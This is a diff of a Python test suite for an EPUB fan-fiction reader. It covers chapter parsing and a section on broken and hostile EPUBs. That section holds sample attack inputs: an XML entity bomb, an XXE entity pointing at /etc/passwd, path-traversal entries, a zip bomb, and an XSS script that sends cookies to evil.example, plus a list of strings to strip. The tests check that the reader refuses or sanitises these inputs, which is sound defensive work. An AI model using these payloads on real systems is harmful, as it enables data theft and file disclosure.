@@ -20,7 +20,8 @@ from hypothesis import strategies as st
 from ficsift.model import Document, Status, TagType
 from ficsift.read import Limits, ReadError, read_bytes
 from ficsift.read.base import RawFile, pick_reader
-from ficsift.read.epub import EpubReader, work_key_for
+from ficsift.read.epub import EpubReader
+from ficsift.read.epub_opf import work_key_for
 from tests.conftest import CORPUS
 from tests.read.epub_fixtures import (
     BILLION_LAUGHS,
@@ -40,7 +41,6 @@ from tests.read.epub_fixtures import (
     replace_members,
     simple_epub,
     xhtml,
-    zip_bytes,
 )
 
 
@@ -128,7 +128,9 @@ def test_ao3_epub_reads_like_the_ao3_html_download() -> None:
 
 def test_ao3_epub_single_chapter_complete_work() -> None:
     work = lighthouse_work()
-    work.chapters = [Ao3Chapter(title="unused", paragraphs=["Just the one scene.", "And a second line."])]
+    work.chapters = [
+        Ao3Chapter(title="unused", paragraphs=["Just the one scene.", "And a second line."])
+    ]
     work.updated, work.completed, work.chapter_total = None, "2021-03-04", "1"
     doc = read_one("one.epub", ao3_epub(work))
     assert len(doc.chapters) == 1
@@ -232,7 +234,11 @@ def test_fanficfare_chapters_from_the_spine(fff: dict[str, bytes]) -> None:
     doc = read_one("wip.epub", fff["wip"])
     titles = [c.title for c in doc.chapters]
     assert len(titles) == 9
-    assert titles[1:4] == ["Chapter 1, Xenos on Cinnabar", "Chapter 2, Sinmay on Kintikin", 'Chapter 3, "Over" Cinnabar']
+    assert titles[1:4] == [
+        "Chapter 1, Xenos on Cinnabar",
+        "Chapter 2, Sinmay on Kintikin",
+        'Chapter 3, "Over" Cinnabar',
+    ]
     assert titles[-1] == "Chapter 8"
     second = doc.chapters[1]
     # The fff_chapter_title heading is the title, not text; the site's own heading stays.
@@ -281,8 +287,8 @@ def test_fanficfare_ao3_chapter_notes(fff: dict[str, bytes]) -> None:
     head = (
         '<div class="fff_chapter_notes fff_head_notes"><b>Author\'s Note:</b>'
         '<blockquote class="userstuff"><p>For the swap.</p></blockquote>'
-        "<b>Summary for the Chapter:</b><blockquote class=\"userstuff\"><p>Anna arrives.</p></blockquote>"
-        "<b>Notes for the Chapter:</b><blockquote class=\"userstuff\"><p>Short one.</p></blockquote></div>"
+        '<b>Summary for the Chapter:</b><blockquote class="userstuff"><p>Anna arrives.</p></blockquote>'
+        '<b>Notes for the Chapter:</b><blockquote class="userstuff"><p>Short one.</p></blockquote></div>'
     )
     foot = (
         '<div class="fff_chapter_notes fff_foot_notes"><b>Notes for the Chapter:</b>'
@@ -294,7 +300,10 @@ def test_fanficfare_ao3_chapter_notes(fff: dict[str, bytes]) -> None:
         '<div class="fff_chapter_notes fff_foot_notes"><b>Author\'s Note:</b>'
         '<blockquote class="userstuff"><p>The end, for now.</p></blockquote></div></body>',
     )
-    doc = read_one("notes.epub", replace_members(epub, {"OEBPS/file0001.xhtml": first, "OEBPS/file0002.xhtml": last}))
+    doc = read_one(
+        "notes.epub",
+        replace_members(epub, {"OEBPS/file0001.xhtml": first, "OEBPS/file0002.xhtml": last}),
+    )
     one = doc.chapters[0]
     assert doc.notes == ["For the swap."]
     assert one.summary == "Anna arrives."
@@ -323,7 +332,9 @@ def generic_epub3() -> bytes:
         "OEBPS/title.xhtml": xhtml(
             "<h1>The Quiet Harbour</h1><p>by Mara Lind</p><p>Rating: Teen</p><p>Pairing: Anna/Bea</p>"
         ),
-        "OEBPS/copyright.xhtml": xhtml("<p>Copyright \u00a9 2020 Mara Lind. All rights reserved.</p>"),
+        "OEBPS/copyright.xhtml": xhtml(
+            "<p>Copyright \u00a9 2020 Mara Lind. All rights reserved.</p>"
+        ),
         "OEBPS/text/ch1.xhtml": xhtml(
             "<h1>Chapter One: Arrival</h1>"
             + paragraphs(
@@ -373,7 +384,7 @@ def test_generic_epub_metadata() -> None:
     assert doc.extra["epub_flavour"] == "generic"
     assert doc.title == "The Quiet Harbour"
     assert doc.authors == ["Mara Lind", "J. Ferris"]
-    assert doc.summary == "A quiet story about\u00a0boats."
+    assert doc.summary == "A quiet story about boats."
     assert names(doc, TagType.FREEFORM) == ["Romance", "Slow Burn"]
     assert doc.status == Status.COMPLETE  # a status word in dc:subject is no tag
     assert doc.language == "en"
@@ -410,11 +421,20 @@ def test_generic_single_file_with_fragment_toc() -> None:
     )
     files = {
         "story.xhtml": story,
-        "toc.ncx": ncx_xml([("1. The First", "story.xhtml#c1"), ("2. Second", "story.xhtml#c2"), ("3. The Third", "story.xhtml#c3")]),
+        "toc.ncx": ncx_xml(
+            [
+                ("1. The First", "story.xhtml#c1"),
+                ("2. Second", "story.xhtml#c2"),
+                ("3. The Third", "story.xhtml#c3"),
+            ]
+        ),
         "content.opf": opf_xml(
             title="Three in One",
             authors=["A. Author"],
-            items=[("s", "story.xhtml", XHTML_TYPE), ("ncx", "toc.ncx", "application/x-dtbncx+xml")],
+            items=[
+                ("s", "story.xhtml", XHTML_TYPE),
+                ("ncx", "toc.ncx", "application/x-dtbncx+xml"),
+            ],
             spine=["s"],
         ),
     }
@@ -438,7 +458,9 @@ def test_generic_single_file_without_toc_finds_chapters_in_the_text() -> None:
         "The End",
     )
     files = {
-        "content.opf": opf_xml(title="Rain", items=[("s", "s.xhtml", XHTML_TYPE)], spine=["s"], toc=None),
+        "content.opf": opf_xml(
+            title="Rain", items=[("s", "s.xhtml", XHTML_TYPE)], spine=["s"], toc=None
+        ),
         "s.xhtml": xhtml(body),
     }
     doc = read_one("rain.epub", epub_bytes(files))
@@ -446,6 +468,58 @@ def test_generic_single_file_without_toc_finds_chapters_in_the_text() -> None:
     assert doc.chapters[1].text == "On Wednesday the river rose."
     assert doc.disclaimer is not None and "don't own them" in doc.disclaimer
     assert doc.status == Status.COMPLETE
+
+
+def test_generic_single_file_split_at_html_headings() -> None:
+    body = (
+        "<h2>Chapter 1: Frost</h2>"
+        + paragraphs("Short first chapter.", "It has two paragraphs.")
+        + "<h2>Chapter 2: Thaw</h2>"
+        + paragraphs("The second one.")
+        + "<h2>Chapter 3: Spring</h2>"
+        + paragraphs("And the third.")
+    )
+    files = {
+        "content.opf": opf_xml(
+            title="Seasons", items=[("s", "s.xhtml", XHTML_TYPE)], spine=["s"], toc=None
+        ),
+        "s.xhtml": xhtml(body),
+    }
+    doc = read_one("seasons.epub", epub_bytes(files))
+    assert [c.title for c in doc.chapters] == [
+        "Chapter 1: Frost",
+        "Chapter 2: Thaw",
+        "Chapter 3: Spring",
+    ]
+    assert doc.chapters[0].text == "Short first chapter.\n\nIt has two paragraphs."
+    assert doc.notes == []
+
+
+def test_generic_nested_toc_parts_are_not_chapters() -> None:
+    files: dict[str, bytes | str] = {
+        "part1.xhtml": xhtml("<h1>Part One</h1>"),
+        "c1.xhtml": xhtml("<h2>One</h2>" + paragraphs("First chapter text.")),
+        "c2.xhtml": xhtml("<h2>Two</h2>" + paragraphs("Second chapter text.")),
+        "toc.ncx": ncx_xml(
+            [("Part One", "part1.xhtml")],
+            nested={0: [("One", "c1.xhtml"), ("Two", "c2.xhtml")]},
+        ),
+        "content.opf": opf_xml(
+            title="Parts",
+            items=[
+                ("p1", "part1.xhtml", XHTML_TYPE),
+                ("c1", "c1.xhtml", XHTML_TYPE),
+                ("c2", "c2.xhtml", XHTML_TYPE),
+                ("ncx", "toc.ncx", "application/x-dtbncx+xml"),
+            ],
+            spine=["p1", "c1", "c2"],
+        ),
+    }
+    doc = read_one("parts.epub", epub_bytes(files))
+    assert [(c.title, c.text) for c in doc.chapters] == [
+        ("One", "First chapter text."),
+        ("Two", "Second chapter text."),
+    ]
 
 
 def test_generic_files_without_toc_are_chapters_each() -> None:
@@ -458,7 +532,9 @@ def test_generic_files_without_toc_are_chapters_each() -> None:
         ),
         **{f"f{n}.xhtml": xhtml(paragraphs(f"Leaf number {n} falls.")) for n in range(3)},
     }
-    files["content.opf"] = files["content.opf"].replace("</manifest>", f'<item id="f9" href="notes.xhtml" media-type="{XHTML_TYPE}"/></manifest>')
+    files["content.opf"] = files["content.opf"].replace(
+        "</manifest>", f'<item id="f9" href="notes.xhtml" media-type="{XHTML_TYPE}"/></manifest>'
+    )
     files["notes.xhtml"] = xhtml(paragraphs("Non-linear footnotes, not story."))
     doc = read_one("leaves.epub", epub_bytes(files))
     assert [c.text for c in doc.chapters] == [f"Leaf number {n} falls." for n in range(3)]
@@ -487,7 +563,9 @@ def test_work_keys_from_urls() -> None:
 # --- broken and hostile EPUBs --------------------------------------------------------------
 
 
-def expect_error(data: bytes, *fragments: str, name: str = "bad.epub", limits: Limits | None = None) -> str:
+def expect_error(
+    data: bytes, *fragments: str, name: str = "bad.epub", limits: Limits | None = None
+) -> str:
     with pytest.raises(ReadError) as info:
         read_bytes(name, data, limits or Limits())
     message = str(info.value)
@@ -509,13 +587,24 @@ def test_truncated_epub() -> None:
 def test_missing_container_opf_and_spine() -> None:
     chapter = xhtml(paragraphs("Words."))
     opf = opf_xml(title="T", items=[("a", "a.xhtml", XHTML_TYPE)], spine=["a"])
-    expect_error(epub_bytes({"content.opf": opf, "a.xhtml": chapter}, container=""), "EPUB has no container.xml")
+    expect_error(
+        epub_bytes({"content.opf": opf, "a.xhtml": chapter}, container=""),
+        "EPUB has no container.xml",
+    )
     expect_error(epub_bytes({"a.xhtml": chapter}), "names 'content.opf', which is missing")
     empty_spine = opf_xml(title="T", items=[("a", "a.xhtml", XHTML_TYPE)], spine=[])
-    expect_error(epub_bytes({"content.opf": empty_spine, "a.xhtml": chapter}), "EPUB spine is empty")
-    expect_error(epub_bytes({"content.opf": "<package><metadata>", "a.xhtml": chapter}), "corrupt EPUB", "not well-formed")
+    expect_error(
+        epub_bytes({"content.opf": empty_spine, "a.xhtml": chapter}), "EPUB spine is empty"
+    )
+    expect_error(
+        epub_bytes({"content.opf": "<package><metadata>", "a.xhtml": chapter}),
+        "corrupt EPUB",
+        "not well-formed",
+    )
     gone = opf_xml(title="T", items=[("a", "missing.xhtml", XHTML_TYPE)], spine=["a"])
-    expect_error(epub_bytes({"content.opf": gone}), "no readable content documents", "missing.xhtml")
+    expect_error(
+        epub_bytes({"content.opf": gone}), "no readable content documents", "missing.xhtml"
+    )
 
 
 @pytest.mark.parametrize("where", ["content.opf", "META-INF/container.xml", "toc.ncx"])
@@ -527,35 +616,55 @@ def test_entity_declarations_are_refused(where: str) -> None:
     body = original[prolog_end:]
     if body.lstrip().startswith("<!DOCTYPE"):
         body = body[body.index(">", body.index("<!DOCTYPE")) + 1 :]
-    hostile = original[:prolog_end] + "\n" + BILLION_LAUGHS + body.replace("Book", "&lol9;", 1).replace("A Simple Book", "&lol9;")
+    hostile = (
+        original[:prolog_end]
+        + "\n"
+        + BILLION_LAUGHS
+        + body.replace("Book", "&lol9;", 1).replace("A Simple Book", "&lol9;")
+    )
     started = time.monotonic()
-    expect_error(replace_members(data, {where: hostile}), "EPUB refused: XML entity declarations", where)
+    expect_error(
+        replace_members(data, {where: hostile}), "EPUB refused: XML entity declarations", where
+    )
     assert time.monotonic() - started < 2
 
 
 def test_external_entities_are_refused() -> None:
     data = simple_epub([("One", paragraphs("Fine text."))])
-    opf = read_member(data, "content.opf").replace(
-        "<package", '<!DOCTYPE package [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<package', 1
-    ).replace("A Simple Book", "&xxe;")
+    opf = (
+        read_member(data, "content.opf")
+        .replace(
+            "<package",
+            '<!DOCTYPE package [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<package',
+            1,
+        )
+        .replace("A Simple Book", "&xxe;")
+    )
     message = expect_error(replace_members(data, {"content.opf": opf}), "EPUB refused")
     assert "root:" not in message
 
 
 def test_html_entities_in_the_opf_are_tolerated() -> None:
     data = simple_epub([("One", paragraphs("Fine text."))], title="Caf&eacute;&nbsp;Nights")
-    opf = read_member(data, "content.opf").replace("Caf&amp;eacute;&amp;nbsp;Nights", "Caf&eacute;&nbsp;Nights")
+    opf = read_member(data, "content.opf").replace(
+        "Caf&amp;eacute;&amp;nbsp;Nights", "Caf&eacute;&nbsp;Nights"
+    )
     doc = read_one("cafe.epub", replace_members(data, {"content.opf": opf}))
-    assert doc.title == "Caf\u00e9\u00a0Nights"
+    assert doc.title == "Caf\u00e9 Nights"  # &nbsp; is whitespace in a title
 
 
-def test_paths_out_of_the_archive_are_refused_per_item(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_paths_out_of_the_archive_are_refused_per_item(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     work = tmp_path / "work"
     work.mkdir()
     monkeypatch.chdir(work)
     evil = xhtml(paragraphs("EVIL CONTENT that must never be read"))
     data = simple_epub(
-        [("Good One", paragraphs("The good chapter is read.")), ("Good Two", paragraphs("So is this one."))],
+        [
+            ("Good One", paragraphs("The good chapter is read.")),
+            ("Good Two", paragraphs("So is this one.")),
+        ],
         spine_extra=[("p", "../../etc/passwd"), ("e", "../evil.txt"), ("a", "/abs.txt")],
         extra=[("../evil.txt", evil), ("/abs.txt", evil)],
     )
@@ -591,12 +700,17 @@ def big_zeros_epub() -> bytes:
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w") as zf:
         zf.writestr(zipfile.ZipInfo("mimetype"), "application/epub+zip", zipfile.ZIP_STORED)
-        zf.writestr("META-INF/container.xml", read_member(simple_epub([("x", "")]), "META-INF/container.xml"))
+        zf.writestr(
+            "META-INF/container.xml",
+            read_member(simple_epub([("x", "")]), "META-INF/container.xml"),
+        )
         zf.writestr(
             "content.opf",
             opf_xml(title="Bomb", items=[("b", "bomb.xhtml", XHTML_TYPE)], spine=["b"], toc=None),
         )
-        with zf.open(zipfile.ZipInfo("bomb.xhtml"), "w", force_zip64=True) as member:
+        info = zipfile.ZipInfo("bomb.xhtml")
+        info.compress_type = zipfile.ZIP_DEFLATED
+        with zf.open(info, "w", force_zip64=True) as member:
             chunk = b"0" * (1 << 20)
             for _ in range(200):
                 member.write(chunk)
@@ -606,23 +720,40 @@ def big_zeros_epub() -> bytes:
 def test_scripts_handlers_and_javascript_links_are_sanitised() -> None:
     body = (
         "<script>document.location='http://evil.example/'+document.cookie</script>"
-        "<p onclick=\"steal()\">Hello <a href=\"javascript:alert(1)\">click</a> there.</p>"
-        "<p><img src=\"x.png\" onerror=\"steal()\"/> and an <iframe src=\"http://evil.example\"></iframe>frame.</p>"
-        "<p style=\"text-align:center\">centred</p>"
+        '<p onclick="steal()">Hello <a href="javascript:alert(1)">click</a> there.</p>'
+        '<p><img src="x.png" onerror="steal()"/> and an <iframe src="http://evil.example"></iframe>frame.</p>'
+        '<p style="text-align:center">centred</p>'
     )
     data = simple_epub([("Sanitised", body)])
     data = replace_members(
-        data, {"text/chapter01.xhtml": read_member(data, "text/chapter01.xhtml").replace("<body>", '<body onload="steal()">')}
+        data,
+        {
+            "text/chapter01.xhtml": read_member(data, "text/chapter01.xhtml").replace(
+                "<body>", '<body onload="steal()">'
+            )
+        },
     )
     doc = read_one("xss.epub", data)
     chapter = doc.chapters[0]
-    for bad in ("<script", "onclick", "onload", "onerror", "javascript:", "<iframe", "steal()", "document.cookie"):
+    for bad in (
+        "<script",
+        "onclick",
+        "onload",
+        "onerror",
+        "javascript:",
+        "<iframe",
+        "steal()",
+        "document.cookie",
+    ):
         assert bad not in chapter.html.lower() and bad not in chapter.text.lower()
     assert "Hello" in chapter.text and "click" in chapter.html and "centred" in chapter.text
 
 
 SMALL_EPUB = simple_epub(
-    [("One", paragraphs("The first chapter has words.")), ("Two", paragraphs("So does the second."))]
+    [
+        ("One", paragraphs("The first chapter has words.")),
+        ("Two", paragraphs("So does the second.")),
+    ]
 )
 
 
